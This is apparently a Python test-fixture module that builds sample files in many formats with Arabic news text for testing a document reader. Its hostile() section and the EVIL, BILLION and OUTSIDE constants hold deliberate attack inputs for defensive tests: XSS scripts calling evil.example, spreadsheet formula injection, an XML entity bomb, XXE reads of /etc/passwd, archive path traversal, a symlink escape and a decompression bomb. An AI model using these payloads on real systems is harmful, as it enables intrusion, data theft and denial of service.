"""Small files of every format, made by the libraries or by hand, for the tests of the readers."""

import io
import json
import tarfile
import zipfile

TEXT = "قال الوزير إن مكافحة الإرهاب من أولويات الدولة في هذا العام."
ARTICLE = f"""<html><head><title>عنوان الصفحة</title><meta property="og:site_name" content="صحيفة الغد">
<meta property="article:published_time" content="2018-03-31"><link rel="canonical" href="http://site.example/a/1">
<script>document.title = "hacked"</script></head><body>
<nav><ul>{'<li><a href="/x">القائمة الرئيسية</a></li>' * 8}</ul></nav>
<article><h1>عنوان الصفحة</h1><p>{TEXT * 4}</p><p>{"وأضاف أن الحكومة ستواصل العمل مع شركائها. " * 5}</p></article>
<footer><a href="/y">حقوق النشر محفوظة</a></footer></body></html>"""


def docx(*parts, title="", author=""):
    """A Word file; a part is a paragraph, or a list of rows for a table."""
    import docx as library

    document = library.Document()
    for part in parts:
        if isinstance(part, str):
            document.add_paragraph(part)
        else:
            table = document.add_table(len(part), len(part[0]))
            for row, cells in zip(table.rows, part, strict=True):
                for cell, text in zip(row.cells, cells, strict=True):
                    cell.text = text
    document.core_properties.title, document.core_properties.author = title, author
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(**sheets):
    """An Excel file of sheets, each a list of rows."""
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parquet(rows):
    """A Parquet file of dicts."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows), out)
    return out.getvalue()


def pdf(*pages, password=None, title=None):
    """A PDF with a text layer; a page is a text of one line, or "" for a page without one."""
    import pypdf

    characters = sorted(set("".join(pages)))
    code = {char: number for number, char in enumerate(characters, 1)}
    unicode = "\n".join(f"<{code[char]:04x}> <{char.encode('utf-16-be').hex()}>" for char in characters)
    cmap = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def\n"
        f"1 begincodespacerange <0000> <ffff> endcodespacerange\n{len(characters)} beginbfchar\n{unicode}\nendbfchar\n"
        "endcmap end end"
    )
    # Drawn from left to right, as every program writes Arabic into a PDF: the last letter comes first.
    texts = ["".join(f"{code[char]:04x}" for char in reversed(page)) for page in pages]
    contents = [f"BT /F 12 Tf 50 700 Td <{text}> Tj ET" if text else "" for text in texts]
    first = 6
    kids = " ".join(f"{first + 2 * n} 0 R" for n in range(len(pages)))
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>",
        "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [4 0 R] "
        "/ToUnicode 5 0 R >>",
        "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /DW 600 /CIDSystemInfo << /Registry (Adobe) "
        "/Ordering (Identity) /Supplement 0 >> >>",
        f"<< /Length {len(cmap)} >>\nstream\n{cmap}\nendstream",
    ]  # fmt: skip
    for n, content in enumerate(contents):
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents {first + 2 * n + 1} 0 R "
            "/Resources << /Font << /F 3 0 R >> >> >>"
        )
        objects.append(f"<< /Length {len(content)} >>\nstream\n{content}\nendstream")
    data, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(objects) + 1
    data += (
        f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer << /Size {size} /Root 1 0 R >>\n"
        f"startxref\n{len(data)}\n%%EOF\n"
    ).encode()
    if password is None and title is None:
        return data
    writer = pypdf.PdfWriter(io.BytesIO(data))
    if title:
        writer.add_metadata({"/Title": title})
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def archive_zip(members):
    """A zip of name -> text or bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def archive_tar(members, mode="w:gz"):
    """A tar of name -> text, bytes or a TarInfo."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            if isinstance(data, tarfile.TarInfo):
                archive.addfile(data)
                continue
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


RSS = f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>وكالة الأنباء</title>
<image><title>شعار</title></image>
<item><title>خبر أول &amp; ثان</title><link>http://a.example/1</link><pubDate>Sat, 31 Mar 2018 10:00:00 GMT</pubDate>
<guid>n1</guid><category>سياسة</category><category>أمن</category><description>موجز&nbsp;الخبر</description>
<content:encoded><![CDATA[<p>{TEXT}</p><p>فقرة <b>ثانية</b>.</p><script>alert(1)</script>]]></content:encoded></item>
<item><title>خبر ثان</title><link>http://a.example/2</link><description>&lt;p&gt;{TEXT}&lt;/p&gt;</description></item>
</channel></rss>"""
ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>مدونة</title><entry><title>تدوينة</title>
<link rel="self" href="http://b.example/self"/><link href="http://b.example/1"/><id>tag:1</id>
<published>2018-03-31T10:00:00Z</published><updated>2019-01-01T00:00:00Z</updated>
<author><name>كاتب</name></author><content type="html">&lt;p&gt;{TEXT}&lt;/p&gt;</content></entry></feed>"""


def corpus_of_files(folder, files, **options):
    """The Corpus of some files made in a folder: {name, with folders: its bytes or its text}."""
    from helpers.corpus import documents

    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return documents.read(folder, **options)


def of_every_format():
    """Name -> bytes of one good file of each format, for what must hold of all of them."""
    import made_written  # which stands on this module

    rows = [{"id": f"r{n}", "title": f"خبر {n}", "date": "2018-03-31", "text": f"{TEXT} {n}"} for n in range(3)]
    lines = "\n".join(json.dumps(row, ensure_ascii=False) for row in rows)
    table = [list(rows[0]), *(list(row.values()) for row in rows)]
    made = {
        "a.txt": f"خبر\n{TEXT}", "b.md": f"---\ntitle: خبر\ndate: 2018-03-31\ntags:\n- أ\n- ب\n---\n# عنوان\n\n{TEXT}",
        "c.csv": "\n".join(",".join(f'"{cell}"' for cell in row) for row in table),
        "d.tsv": "\n".join(f"pos\t{TEXT} {n}\t0" for n in range(6)), "e.json": json.dumps(rows) + json.dumps(rows),
        "f.jsonl": lines, "g.html": ARTICLE, "i.xml": RSS, "j.xml": ATOM,
        "k.txt": "\n".join(f"content: ['{TEXT}', '{n}\\xa0م']" for n in range(4)),
        "l.txt": f"<DOC>\n<DOCNO>n1</DOCNO>\n<TITLE>خبر</TITLE>\n<TEXT>\n{TEXT}\n</TEXT>\n</DOC>\n",
        "m.txt": "\n".join(f"neg\t{TEXT} {n}\t0" for n in range(6)),
        "h.mht": "MIME-Version: 1.0\nSnapshot-Content-Location: http://site.example/a\n"
        'Content-Type: multipart/related; boundary="B"\n\n--B\nContent-Type: text/html; charset="utf-8"\n'
        f"Content-Transfer-Encoding: 8bit\n\n{ARTICLE}"
        "\n--B--\n",
    }  # fmt: skip
    made = {name: text.encode() for name, text in made.items()}
    made |= {
        "n.docx": docx("عنوان", TEXT, [["أ", "ب"], ["ج", TEXT]], title="تقرير"), "o.pdf": pdf(TEXT, "", TEXT * 2),
        "p.xlsx": xlsx(one=table, two=table), "q.parquet": parquet(rows),
        "u.txt": TEXT.encode("cp1256"), "v.txt": TEXT.encode("utf-16"), "w.rtf": made_written.rtf(f"{TEXT}\\par"),
        "x.odt": made_written.odt(made_written.p(TEXT)), "y.epub": made_written.epub(f"<p>{TEXT}</p>"),
    }
    inside = {f"جريدة/{name}": data for name, data in list(made.items())[:6]}
    return made | {"r.zip": archive_zip(inside), "s.tar.gz": archive_tar(inside), "t.tar": archive_tar(inside, "w")}


EVIL = (
    "<script>document.title='hacked';fetch('http://evil.example/s')</script>"
    "<img src='http://evil.example/i.png' onerror=\"document.title='hacked'\"><svg onload=\"document.title='hacked'\">"
)
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ها ها ها ها ها">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + f"]><items><item><text>{TEXT} &a11;</text></item></items>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">'
    '<!ENTITY y SYSTEM "http://evil.example/">]>'
    f"<items><item><text>{TEXT} &x; &y;</text></item></items>"
)


def hostile():
    """Name -> bytes of a corpus that means harm: scripts, formulas, paths that lead out, entity bombs."""
    formulas = ['=HYPERLINK("http://evil.example","نص")', "+cmd|'/c calc'!A1", "@SUM(1)", "-1+1"]
    rows = [
        {"id": f"{EVIL}{n}", "title": f"{EVIL} عنوان {n}", "source": f"{formulas[n % 4]}", "category": f"فئة{EVIL}",
         "date": f"2018-0{n % 9 + 1}-01", "url": "javascript:document.title='hacked'", EVIL: formulas[n % 4],
         "text": f"{TEXT} {EVIL} كلمة{n} {formulas[n % 4]} <b>نص</b> $\\\\alpha$ {{{{7*7}}}} الوزير الدولة {n}"}
        for n in range(24)
    ]  # fmt: skip
    body = f'<body onload="document.title=1">{EVIL}<iframe src="http://evil.example/"></iframe>'
    page = ARTICLE.replace("<body>", body)
    made = {
        "a.jsonl": "\n".join(json.dumps(row, ensure_ascii=False) for row in rows), "bomb.xml": BILLION,
        "outside.xml": OUTSIDE,
        "page.html": page.replace(TEXT, f"{TEXT} &lt;script&gt;document.title=1&lt;/script&gt;"),
        f"{EVIL.replace('/', '')[:100]}.txt": f"{EVIL} {TEXT}",
        "formulas.csv": "id,title,text\n" + "".join(f'f{n},"{f.replace(chr(34), chr(34) * 2)}",{TEXT} {n}\n'
                                                    for n, f in enumerate(formulas)),
    }  # fmt: skip
    made = {name: text.encode() for name, text in made.items()}
    link = tarfile.TarInfo("link.txt")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    outside = {"../evil.txt": TEXT, "/evil.txt": TEXT, "good.txt": f"{TEXT} من الأرشيف", "bomb.txt": bytes(300_000_000)}
    made |= {"a.zip": archive_zip(outside), "a.tar.gz": archive_tar({**outside, "link": link})}
    return made
